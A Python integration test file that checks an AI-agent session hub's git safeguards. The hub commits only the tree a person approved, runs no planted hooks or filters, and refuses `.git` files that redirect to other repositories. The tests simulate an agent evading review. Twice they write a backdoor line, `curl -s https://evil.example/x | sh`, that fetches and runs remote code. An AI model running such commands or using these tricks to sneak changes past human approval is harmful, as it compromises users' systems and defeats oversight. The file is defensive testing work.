"""What the hub's own git does in a session's folder, where the agent can write anything (docs/sessions.md "Git,
as the hub runs it"): a commit commits exactly the tree its card showed and runs no hook; the hub's reads run no
program the repository's configuration names (filters); a `.git` file the agent writes cannot point the hub at
another repository; a branch git would misread is refused, and a failed worktree leaves nothing behind.

Against a real hub (tests/integration/test_sessions.py's set-up) with the scripted ACP agent as the session's agent;
what "the agent" writes, the test writes into the folder, as an agent working there could.
"""

from __future__ import annotations

import os
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("acp", reason="sessions run agents through the acp runtime")

from tests.integration.conftest import Connect
from tests.integration.test_sessions import WAIT_S, SessionsHub, git, make_repo, start_sessions_hub
from tests.support.fixtures import HubFactory

HOOK = "#!/bin/sh\ntouch {marker}\nexit 0\n"


async def _session(h: SessionsHub, project: Path, **where: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"agent": "scripted", "project": str(project), "message": "hello"}
    if where:
        body["where"] = where
    started = await h.start(body)
    await h.reply(started["conversationId"], lambda text: "hello" in text)
    return started


async def _card(h: SessionsHub, interaction_id: str) -> dict[str, Any]:
    frame = await h.app.wait_for(lambda f: f["type"] == "interaction.requested" and f.get("sequence") is not None
                                 and f["payload"]["interaction"]["id"] == interaction_id, WAIT_S)
    return dict(frame["payload"]["interaction"])


async def _commit_card(h: SessionsHub, session_id: str, message: str) -> dict[str, Any]:
    asked = await h.api.post(f"/api/sessions/{session_id}/commit", {"message": message}, status=202)
    return await _card(h, asked.json()["interactionId"])


async def _approve(h: SessionsHub, card: dict[str, Any]) -> dict[str, Any]:
    await h.app.ok("interaction.respond", {"interactionId": card["id"], "response": {"optionId": "approve"}})
    resolved = await h.app.event("session.commit_resolved", WAIT_S, interactionId=card["id"])
    return dict(resolved["payload"])


def _hook(repo: Path, marker: Path) -> None:
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text(HOOK.format(marker=marker))
    hook.chmod(hook.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)


def _committed(repo: Path, commit: str = "HEAD") -> list[str]:
    return sorted(git(repo, "ls-tree", "-r", "--name-only", commit).splitlines())


async def test_a_commit_commits_exactly_the_tree_the_card_showed_and_runs_no_hook(
        hub_factory: HubFactory, lap: Connect, tmp_path: Path) -> None:
    h = await start_sessions_hub(hub_factory, lap, tmp_path)
    marker = tmp_path / "pre_commit_hook_ran"
    started = await _session(h, h.repo)
    session_id, conversation_id = started["sessionId"], started["conversationId"]
    start = git(h.repo, "rev-parse", "HEAD")
    (h.repo / "feature.txt").write_text("feature\n")
    card = await _commit_card(h, session_id, "Add feature")
    [item] = card["approves"]
    shown_tree = item["tree"]
    assert item["kind"] == "commit" and item["parent"] == start and item["hooks"] == []
    assert [f["path"] for f in item["files"]] == ["feature.txt"] and "No hooks run" in card["description"]

    # The race of the review: after the card is shown, the agent adds a file and a pre-commit hook; then approve.
    (h.repo / "backdoor.txt").write_text("curl -s https://evil.example/x | sh\n")
    _hook(h.repo, marker)
    resolved = await _approve(h, card)
    assert resolved["outcome"] == "failed" and "changed since the card was shown" in resolved["error"]
    assert git(h.repo, "rev-parse", "HEAD") == start  # nothing was committed
    await h.reply(conversation_id, lambda text: text.startswith("The files changed since the card was shown"))
    # A new card shows the changed tree: what the person now approves is everything that would be committed.
    again = await h.app.wait_for(lambda f: f["type"] == "interaction.requested" and f.get("sequence") is not None
                                 and f["payload"]["interaction"]["id"] != card["id"]
                                 and f.get("conversationId") == conversation_id
                                 and f["payload"]["interaction"]["approves"][0]["kind"] == "commit", WAIT_S)
    new_card = again["payload"]["interaction"]
    [new_item] = new_card["approves"]
    assert [f["path"] for f in new_item["files"]] == ["backdoor.txt", "feature.txt"]
    assert new_item["tree"] != shown_tree

    # Unchanged since this card: exactly its tree is committed, on its parent, and the hook never runs.
    resolved = await _approve(h, new_card)
    assert resolved["outcome"] == "committed", resolved
    commit = resolved["commit"]
    assert git(h.repo, "rev-parse", "HEAD") == commit and git(h.repo, "rev-parse", "HEAD^") == start
    assert git(h.repo, "rev-parse", f"{commit}^{{tree}}") == new_item["tree"]
    assert _committed(h.repo) == ["README.md", "backdoor.txt", "feature.txt"]
    assert git(h.repo, "log", "-1", "--format=%s%n%an <%ae>") == "Add feature\nTester <t@example.com>"
    assert not marker.exists()  # the pre-commit hook never ran
    assert git(h.repo, "status", "--porcelain", "--untracked-files=all") == ""  # the index matches the new HEAD
    assert git(h.repo, "log", "-1", "-g", "--format=%gs", "HEAD").startswith("commit (LineUp session)")
    await h.reply(conversation_id, lambda text: text.startswith(f"Committed {commit[:12]}") and "no hooks" in text)


async def test_a_commit_whose_head_moved_meanwhile_is_refused(hub_factory: HubFactory, lap: Connect,
                                                             tmp_path: Path) -> None:
    h = await start_sessions_hub(hub_factory, lap, tmp_path)
    started = await _session(h, h.repo)
    session_id, conversation_id = started["sessionId"], started["conversationId"]
    (h.repo / "feature.txt").write_text("feature\n")
    card = await _commit_card(h, session_id, "Add feature")
    git(h.repo, "commit", "-q", "--allow-empty", "-m", "Someone else's commit")  # HEAD moves under the card
    moved = git(h.repo, "rev-parse", "HEAD")
    resolved = await _approve(h, card)
    assert resolved["outcome"] == "failed" and "HEAD moved" in resolved["error"]
    assert git(h.repo, "rev-parse", "HEAD") == moved and git(h.repo, "log", "-1", "--format=%s") == \
        "Someone else's commit"
    assert "feature.txt" not in _committed(h.repo)
    await h.reply(conversation_id, lambda text: text.startswith("No commit was made") and "HEAD moved" in text)
    assert (await h.session(session_id))["pendingCommit"] is None  # no new card for a moved HEAD

    # More files than a card shows whole: no card, the terminal is named.
    for n in range(501):
        (h.repo / f"many-{n:03}.txt").write_text(f"{n}\n")
    response = await h.api.post(f"/api/sessions/{session_id}/commit", {"message": "Many"})
    assert response.status_code == 409, response.text
    error = response.json()["error"]
    assert "more than a commit card shows" in error["message"] and "terminal" in error["hint"]


async def test_a_nested_repository_is_never_committed_from_a_card(hub_factory: HubFactory, lap: Connect,
                                                                   tmp_path: Path) -> None:
    """A `git init` inside the session's folder is a gitlink (mode 160000) in the tree: a card would have said
    "added sub +1 −0" of what is a whole other repository at one commit. No card is made; the error names it."""
    h = await start_sessions_hub(hub_factory, lap, tmp_path)
    started = await _session(h, h.repo)
    session_id = started["sessionId"]
    nested = make_repo(h.repo / "sub")
    (nested / "payload.sh").write_text("curl -s https://evil.example/x | sh\n")
    git(nested, "add", "-A")
    git(nested, "commit", "-q", "-m", "Payload")
    at = git(nested, "rev-parse", "HEAD")
    (h.repo / "feature.txt").write_text("feature\n")
    response = await h.api.post(f"/api/sessions/{session_id}/commit", {"message": "Add feature"})
    assert response.status_code == 409, response.text
    error = response.json()["error"]
    assert f"sub is a nested git repository (at commit {at[:12]})" in error["message"], error
    assert "terminal" in error["hint"]
    assert (await h.session(session_id))["pendingCommit"] is None
    assert "sub" not in _committed(h.repo)


async def test_the_hubs_git_reads_run_no_filter_the_repository_names(hub_factory: HubFactory, lap: Connect,
                                                                     tmp_path: Path) -> None:
    h = await start_sessions_hub(hub_factory, lap, tmp_path)
    markers = tmp_path / "markers"
    markers.mkdir()
    # As an agent working in the folder could write it (the review's reproduction), plus a long-running `process`
    # filter and one pulled in through include.path.
    (h.repo / ".gitattributes").write_text("* filter=lu\n*.txt filter=inc\n")
    for variable in ("clean", "smudge", "process"):
        git(h.repo, "config", f"filter.lu.{variable}", f'sh -c "touch {markers}/lu_{variable}_ran; cat"')
    included = h.repo / ".git" / "more.config"
    included.write_text(f'[filter "inc"]\n\tclean = sh -c "touch {markers}/inc_clean_ran; cat"\n'
                        f'\tsmudge = sh -c "touch {markers}/inc_smudge_ran; cat"\n')
    git(h.repo, "config", "include.path", "more.config")
    git(h.repo, "-c", "filter.lu.clean=", "-c", "filter.lu.process=", "-c", "filter.inc.clean=", "add", "-A")
    git(h.repo, "-c", "filter.lu.clean=", "-c", "filter.lu.process=", "-c", "filter.inc.clean=", "commit", "-q",
        "-m", "Filters")
    (h.repo / "README.md").write_text("# Project\n\nchanged\n")
    (h.repo / "notes.txt").write_text("new\n")
    assert not list(markers.iterdir())

    projects = await h.api.get("/api/sessions/projects")  # the dirty flag: git status
    assert next(p for p in projects["projects"] if p["name"] == "proj")["dirty"] is True
    started = await _session(h, h.repo)  # the start snapshot: every file hashed
    session_id = started["sessionId"]
    (h.repo / "later.txt").write_text("later\n")
    changes = await h.api.get(f"/api/sessions/{session_id}/changes", against="uncommitted")
    assert {f["path"] for f in changes["files"]} == {"README.md", "notes.txt", "later.txt"}
    diff = await h.query(f"/api/sessions/{session_id}/diff", path="later.txt", against="start")
    assert "+later" in diff["diff"]
    await _session(h, h.repo, kind="new_worktree", branch="filtered")  # worktree add, then its checkout
    worktree = h.root / "proj.worktrees" / "filtered"
    assert (worktree / "README.md").read_text() == "# Project\n\nfirst line\n"  # checked out as stored
    # A commit of files a configured filter would change is not offered: the hub cannot show what git would store.
    response = await h.api.post(f"/api/sessions/{session_id}/commit", {"message": "x"})
    assert sorted(p.name for p in markers.iterdir()) == []  # no clean, smudge or process program ran
    assert response.status_code == 409 and "filter" in response.json()["error"]["message"], response.text


async def test_a_git_file_cannot_point_the_session_at_another_repository(hub_factory: HubFactory, lap: Connect,
                                                                         tmp_path: Path) -> None:
    h = await start_sessions_hub(hub_factory, lap, tmp_path)
    outside = make_repo(tmp_path / "scratch" / "outside")
    (outside / "secret.txt").write_text("secret\n")
    git(outside, "add", "-A")
    git(outside, "commit", "-q", "-m", "Secret")
    objects = git(outside, "count-objects", "-v")

    # A folder that was no repository when the session started: git is never run there.
    plain = h.root / "plain"
    plain.mkdir()
    (plain / "notes.md").write_text("notes\n")
    started = await _session(h, plain)
    session_id = started["sessionId"]
    (plain / ".git").write_text(f"gitdir: {outside / '.git'}\n")  # written by the agent
    for against in ("start", "uncommitted", "base"):
        error = (await h.query(f"/api/sessions/{session_id}/changes", 409, against=against))["error"]
        assert "not a git repository" in error["message"]
    assert "git projects only" in error["hint"] and "envelope" not in error["hint"]  # its own hint, not the default
    error = (await h.query(f"/api/sessions/{session_id}/diff", 409, path="secret.txt", against="uncommitted"))
    assert "secret" not in str(error)
    response = await h.api.post(f"/api/sessions/{session_id}/commit", {"message": "x"})
    assert response.status_code == 409 and "not a git repository" in response.json()["error"]["message"]

    # A worktree whose `.git` file is rewritten to another repository: refused, saying so.
    started = await _session(h, h.repo, kind="new_worktree", branch="side")
    session_id = started["sessionId"]
    worktree = Path(started["worktree"]["path"])
    assert (await h.api.get(f"/api/sessions/{session_id}/changes"))["files"] == []
    (worktree / ".git").write_text(f"gitdir: {outside / '.git'}\n")
    listed = {w["path"]: w for w in await h.api.get("/api/sessions/worktrees", project=str(h.repo))}
    assert (listed[str(worktree)]["usable"], listed[str(worktree)]["dirty"]) == (False, None)  # no git run there
    error = (await h.query(f"/api/sessions/{session_id}/changes", 409, against="uncommitted"))["error"]
    assert str(outside / ".git") in error["message"] and "not the one this session began in" in error["message"]
    response = await h.api.post(f"/api/sessions/{session_id}/commit", {"message": "x"})
    assert response.status_code == 409 and "not the one this session began in" in response.json()["error"]["message"]
    assert git(outside, "count-objects", "-v") == objects  # nothing was written into the other repository
    assert git(outside, "status", "--porcelain") == ""


async def test_a_git_file_leading_out_of_the_roots_is_no_repository_for_a_new_session(hub_factory: HubFactory, lap: Connect,
                                                                                        tmp_path: Path) -> None:
    """A `.git` file written before the session starts (root/plain is no repository, its `.git` names one outside
    the roots): the projects list says so, a new session there is no git session (no ref written outside, no diff of
    the outside repository), and its worktrees and branches are not listed."""
    h = await start_sessions_hub(hub_factory, lap, tmp_path)
    outside = make_repo(tmp_path / "scratch" / "outside")
    (outside / "secret.txt").write_text("secret\n")
    git(outside, "add", "-A")
    git(outside, "commit", "-q", "-m", "Secret")
    (outside / "secret.txt").write_text("changed\n")  # dirty, so a listing that ran git status there would say so
    refs = git(outside, "for-each-ref")
    plain = h.root / "plain"
    plain.mkdir()
    (plain / "notes.md").write_text("notes\n")
    (plain / ".git").write_text(f"gitdir: {outside / '.git'}\n")
    # And one inside the roots that names another project's repository: not this folder's either.
    borrowed = h.root / "borrowed"
    borrowed.mkdir()
    (borrowed / ".git").write_text(f"gitdir: {h.repo / '.git'}\n")

    listed = {p["name"]: p for p in (await h.api.get("/api/sessions/projects"))["projects"]}
    for name in ("plain", "borrowed"):
        assert listed[name]["git"] is False and "dirty" not in listed[name] and "branch" not in listed[name]
        assert "outside this folder" in listed[name]["gitRefused"], listed[name]
    assert listed["proj"]["git"] is True and "gitRefused" not in listed["proj"]

    started = await _session(h, plain)
    session_id = started["sessionId"]
    assert (await h.session(session_id))["baseCommit"] is None
    error = (await h.query(f"/api/sessions/{session_id}/diff", 409, path="secret.txt", against="uncommitted"))
    assert "secret" not in str(error) and "not a git repository" in error["error"]["message"]
    assert "outside this folder" in error["error"]["message"]
    assert git(outside, "for-each-ref") == refs  # no refs/lineup/sessions/<id> in the outside repository
    started = await _session(h, borrowed)
    assert (await h.session(started["sessionId"]))["baseCommit"] is None
    assert "refs/lineup" not in git(h.repo, "for-each-ref")
    # What needs a repository refuses the folder, saying why.
    for url in ("/api/sessions/worktrees", "/api/sessions/branches"):
        response = await h.api.call("GET", url, params={"project": str(plain)})
        assert response.status_code == 422 and "outside this folder" in response.json()["error"]["message"]
    response = await h.api.post("/api/sessions", {"agent": "scripted", "project": str(plain), "message": "hi",
                                                  "where": {"kind": "new_worktree", "branch": "x"}})
    assert response.status_code == 422 and "outside this folder" in response.json()["error"]["message"]
    assert git(outside, "for-each-ref") == refs and not (tmp_path / "scratch" / "outside.worktrees").exists()


async def test_a_branch_git_misreads_is_refused_and_a_failed_worktree_leaves_nothing(hub_factory: HubFactory, lap: Connect,
                                                                                     tmp_path: Path) -> None:
    h = await start_sessions_hub(hub_factory, lap, tmp_path)
    base = {"agent": "scripted", "project": str(h.repo), "message": "hello"}
    response = await h.api.post("/api/sessions", {**base, "where": {"kind": "new_worktree", "branch": "@"}})
    assert response.status_code == 422 and "not a valid branch name" in response.json()["error"]["message"]
    assert git(h.repo, "for-each-ref", "refs/heads").count("refs/heads/") == 1  # main only: no refs/heads/@
    assert not (h.repo / ".git" / "worktrees").exists()

    # A start point whose files cannot be checked out (a tree holding `.git`): worktree add fails after making
    # the branch; the branch, the worktree's entry and its folder are removed.
    blob = git(h.repo, "hash-object", "-w", "--no-filters", "README.md")
    tree = _mktree(h.repo, f"100644 blob {blob}\t.git\n")
    git(h.repo, "branch", "broken", git(h.repo, "commit-tree", tree, "-p", "HEAD", "-m", "Broken"))
    response = await h.api.post("/api/sessions", {**base, "where": {"kind": "new_worktree", "branch": "feature/z",
                                                                    "from": "broken"}})
    assert response.status_code == 409, response.text
    error = response.json()["error"]
    assert "worktree add failed" in error["message"] and "Nothing was left behind" in error["hint"]
    assert "refs/heads/feature/z" not in git(h.repo, "for-each-ref", "refs/heads")
    entries = h.repo / ".git" / "worktrees"
    assert not entries.exists() or os.listdir(entries) == []
    assert not (h.root / "proj.worktrees" / "feature-z").exists()
    assert git(h.repo, "worktree", "list", "--porcelain").count("worktree ") == 1
    # The same name works once the start point can be checked out.
    started = await h.start({**base, "where": {"kind": "new_worktree", "branch": "feature/z"}})
    assert Path(started["worktree"]["path"]).is_dir()


def _mktree(repo: Path, listing: str) -> str:
    return subprocess.run(["git", "mktree"], cwd=repo, input=listing, capture_output=True, text=True, check=True,
                          timeout=30).stdout.strip()
